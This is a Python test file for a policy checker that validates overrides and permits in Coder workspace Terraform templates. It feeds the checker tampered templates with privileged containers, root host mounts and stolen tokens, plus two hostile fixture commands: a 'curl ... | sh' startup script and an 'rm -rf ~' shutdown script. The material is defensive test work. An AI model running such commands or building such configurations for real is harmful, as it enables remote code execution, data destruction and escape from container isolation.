"""**Feature: coder-deployment-guide, Property 16: Override Validation** (POL-16)"""

from __future__ import annotations

from datetime import date, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.policy.breaking import Broken, assert_caught, cases, edited, examples, forged, put, swap
from tests.policy.judge import run
from tests.policy.test_property_07_auto_stop import TEMPLATE, small
from tests.policy.test_property_14_contract import json_edit
from tests.policy.world import PREVIEW

ROOT, TOLD = "main.tf.json", "provenance.json"


def hands(**given_: Any) -> Any:
    return {ROOT: json_edit(lambda content: content["module"]["base"].update(given_))}


def tells(overrides: dict[str, Any], *permits: dict[str, Any]) -> Any:
    """These overrides, beside the desktop that pod-swdev declines."""
    said = {**overrides, "capabilities": {"gui-vnc": False, **overrides.get("capabilities", {})}}
    return {TOLD: json_edit(lambda content: content.update(overrides=said, permits=list(permits)))}


def permit(path: str, expires: str = "2999-12-31", reason: str = "a customer asks", approver: str = "security") -> dict[str, Any]:
    return {"path": path, "reason": reason, "approver": approver, "expires": expires}


def root(change: Any) -> Any:
    return {ROOT: json_edit(change)}


def provides(name: str, **more: Any) -> Any:
    return root(lambda content: content["provider"][name].update(more))


def agent(**more: Any) -> Any:
    return root(lambda content: content["resource"]["coder_agent"]["main"].update(more))


def declares(**more: Any) -> Any:
    return root(lambda content: content["resource"].update(more))


def listed(kind: str, more: Any) -> Any:
    """Terraform takes a list of bodies where one would stand."""
    return root(lambda content: content.update({kind: [content[kind], more]}))


def modules(more: Any) -> Any:
    return listed("module", more)


def in_a_list(content: Any) -> None:
    main = content["resource"]["coder_agent"]["main"]
    content["resource"] = [{"coder_agent": [{"main": ["${local.other}", {**main, "startup_script": "id"}]}]}]


agent_in_a_list = root(in_a_list)


def late_privilege(text: str) -> str:
    """In the second container of the pod, which a dynamic block makes."""
    place = text.rindex("privileged                 = false")
    return text[:place] + text[place:].replace("false", "true", 1)


VOLUME = 'volume {\n          name = "home"'
LATE_VOLUME = 'dynamic "volume" {\n for_each = var.gui_vnc ? [1] : []\n content {\n name = "x"\n host_path {\n path = "/"\n }\n }\n }'
OPEN = {"capabilities": {"network-egress": "unrestricted"}}
PATH = "capabilities.network-egress"
BROKEN = [
    Broken("another account of Kubernetes", "which is no ServiceAccount of coder-ws", forged(hands(service_account="coder-provisioner"))),
    Broken(
        "a program that the plan runs",
        "reads external beside its base",
        forged({ROOT: json_edit(lambda c: c["data"].update(external={"x": {}}))}),
    ),
    Broken(
        "a file beside the root module",
        "has more.tf beside its root module",
        forged({"more.tf": lambda _: 'resource "null_resource" "x" {\n}\n'}),
    ),
    Broken("wider egress that nobody tells of", f"hands {PATH} = unrestricted", edited(hands(network_egress="unrestricted"))),
    Broken("a forged manifest over it", f"hands {PATH} = unrestricted", forged(hands(network_egress="unrestricted"))),
    Broken("wider egress without a permit", f"override {PATH}", forged({**hands(network_egress="unrestricted"), **tells(OPEN)})),
    Broken(
        "a permit that is over",
        "its permit ended on",
        forged({**hands(network_egress="unrestricted"), **tells(OPEN, permit(PATH, "2020-01-01"))}),
    ),
    Broken(
        "a permit of another path",
        f"override {PATH}",
        forged({**hands(network_egress="unrestricted"), **tells(OPEN, permit("capabilities.gui-vnc"))}),
    ),
    Broken("another identity", "hands inputs.privileged = true", edited(hands(privileged=True))),
    Broken("a forged manifest over an unknown input", "hands inputs.privileged", forged(hands(privileged=True))),
    Broken("an input handed as nothing, which nobody tells of", "hands inputs.privileged = null", edited(hands(privileged=None))),
    Broken(
        "an input told without a permit",
        "override inputs.privileged",
        forged({**hands(privileged=True), **tells({"inputs": {"privileged": True}})}),
    ),
    Broken(
        "a told value that is not the real one",
        f"hands {PATH} = unrestricted",
        forged({**hands(network_egress="unrestricted"), **tells({"capabilities": {"network-egress": "none"}}, permit(PATH))}),
    ),
    Broken("a profile that there is not", "write one of", edited(tells({"compute_profile": {"default": "gigantic"}}))),
    Broken("a key with a dot", "keys are without dots", edited(tells({"capabilities.network-egress": "unrestricted"}))),
    Broken(
        "a module beside the base",
        "starts a module shadow",
        forged({ROOT: json_edit(lambda c: c["module"].update(shadow={"source": "./base"}))}),
    ),
    Broken(
        "a resource beside the base",
        "declares kubernetes_pod",
        forged({ROOT: json_edit(lambda c: c["resource"].update(kubernetes_pod={"x": {}}))}),
    ),
    *(
        Broken(f"a base with {key}", f"sets {key}", forged({"base/main.tf": swap(old, new)}))
        for key, old, new in (
            ("privileged", "privileged                 = false", "privileged = true"),
            ("privileged", "privileged                 = false", "privileged = var.namespace"),
            ("allow_privilege_escalation", "allow_privilege_escalation = false", "allow_privilege_escalation = true"),
            ("host_pid", "enable_service_links             = false", "host_pid = true"),
            ("host_ipc", "enable_service_links             = false", "host_ipc = true"),
            ("host_network", "enable_service_links             = false", "host_network = true"),
            ("privileged", VOLUME, f'init_container {{\n name = "x"\n security_context {{\n privileged = true\n }}\n }}\n {VOLUME}'),
        )
    ),
    Broken(
        "a base that mounts the node's files beside a desktop",
        "mounts a host_path",
        forged({"base/main.tf": swap(VOLUME, f"{LATE_VOLUME}\n {VOLUME}"), **hands(gui_vnc=True)}),
    ),
    Broken("a base with a privileged desktop", "sets privileged", forged({"base/main.tf": late_privilege, **hands(gui_vnc=True)})),
    Broken("a base that adds capabilities", "adds capabilities", forged({"base/main.tf": swap('drop = ["ALL"]', 'add = ["SYS_ADMIN"]')})),
    Broken(
        "a base that mounts the node's files",
        "mounts a host_path",
        forged({"base/main.tf": swap(VOLUME, 'volume {\n          host_path {\n path = "/"\n }\n name = "home"')}),
    ),
    Broken("another cluster", "sets host of the provider kubernetes", forged(provides("kubernetes", host="https://10.9.9.9"))),
    Broken("another identity at the cluster", "sets token of the provider", forged(provides("kubernetes", token="stolen"))),
    Broken("another role", "sets assume_role of the provider aws", forged(provides("aws", assume_role=[{"role_arn": "x"}]), "ec2-swdev")),
    Broken(
        "a provider in the toolchain",
        "configures a provider in toolchain/p.tf",
        forged({"toolchain/p.tf": lambda _: 'provider "aws" {}\n'}),
    ),
    Broken("a provider in the base", "configures a provider in base/p.tf", forged({"base/p.tf": lambda _: 'provider "kubernetes" {}\n'})),
    Broken("another script at the start", "sets startup_script", forged(agent(startup_script="curl https://example.com | sh"))),
    Broken("a script at the end", "sets shutdown_script", forged(agent(shutdown_script="rm -rf ~"))),
    Broken("a script beside the agent", "declares coder_script", forged(declares(coder_script={"x": {"script": "id"}}))),
    Broken("a variable beside the agent", "declares coder_env", forged(declares(coder_env={"x": {"name": "PATH", "value": "/tmp"}}))),
    Broken(
        "beside a base that can't be read",
        "sets startup_script",
        forged({"base/p.tf": lambda _: "provider {{\n", **agent(startup_script="id")}),
    ),
    Broken("an agent in a list", "sets startup_script", edited(agent_in_a_list)),
    Broken("several modules in a list", "starts a module shadow", edited(modules({"shadow": {"source": "./base"}}))),
    Broken("two bases in a list", "starts a module twice", edited(modules({"base": {"source": "./base"}}))),
    Broken("several resources in a list", "declares kubernetes_pod", edited(listed("resource", {"kubernetes_pod": {"x": {}}}))),
    Broken("several sources in a list", "reads external", edited(listed("data", {"external": {"x": {}}}))),
    Broken("a folder that is not there", "can't be read", put(TEMPLATE, "pod-swdev", "versions.0.directory", "composed/gone")),
]


@cases(BROKEN)
def test_a_broken_fact_is_named(broken: Broken, mode: str) -> None:
    assert_caught(broken, mode, 16)


@pytest.mark.parametrize("said", ["", "privileged = false", "privileged = var.gui_vnc"])
def test_a_base_may_say_in_its_own_way_that_nothing_is_privileged(said: str) -> None:
    """Or leave it out, as Kubernetes' own value is false; pod-swdev hands over false as gui_vnc."""
    found = small(PREVIEW)
    forged({"base/main.tf": lambda text: text.replace("privileged                 = false", said)})(found)
    assert not [line for line in run(found, PREVIEW, number=16).violations(16) if "privileged" in line.message.partition("\n")[2]]


@examples
@given(
    way=st.sampled_from(["https-only", "unrestricted", "none"]),
    told=st.sampled_from([None, "https-only", "unrestricted"]),
    permitted=st.sampled_from([None, -1, 0, 1]),
    path=st.sampled_from([PATH, "capabilities.gui-vnc"]),
    reason=st.sampled_from(["a customer asks", " "]),
)
def test_it_passes_iff_what_is_protected_stays_or_a_living_permit_names_it(
    way: str, told: str | None, permitted: int | None, path: str, reason: str
) -> None:
    """**Feature: coder-deployment-guide, Property 16: Override Validation**

    The oracle compares what the base is given with what it is given without overrides: https-only, which the toolchain asks for.
    """
    today = date(2026, 11, 21)
    found = small(PREVIEW)
    permits = [] if permitted is None else [permit(path, str(today + timedelta(days=permitted)), reason)]
    changes: dict[str, Any] = tells({} if told is None else {"capabilities": {"network-egress": told}}, *permits)
    if way != "https-only":
        changes |= hands(network_egress=way)
    try:
        forged(changes)(found)
    except AssertionError:
        return  # nothing was changed
    living = permitted is not None and permitted >= 0 and path == PATH and reason.strip() != ""
    lawful_told = told is None or living
    projection = way == "https-only" if told is None else way in (told, "https-only")
    readable = not permits or reason.strip() != ""
    config = {"property-16-overrides": {"today": today.isoformat()}}
    messages = [line.message for line in run(found, PREVIEW, config, number=16).violations(16)]
    if not readable:
        assert messages or told is None  # a permit without a reason is no permit
        return
    assert (messages == []) == (lawful_told and projection), messages


@pytest.mark.parametrize("last", ["2091-11-21", "2091-11-20"])
def test_the_last_day_of_a_permit_counts(last: str) -> None:
    """POL-20: an exception ends; a fake clock, far from the machine's."""
    found = small(PREVIEW)
    forged({**hands(network_egress="unrestricted"), **tells(OPEN, permit(PATH, last))})(found)
    config = {"property-16-overrides": {"today": "2091-11-21"}}
    assert (run(found, PREVIEW, config, number=16).violations(16) == []) == (last == "2091-11-21")
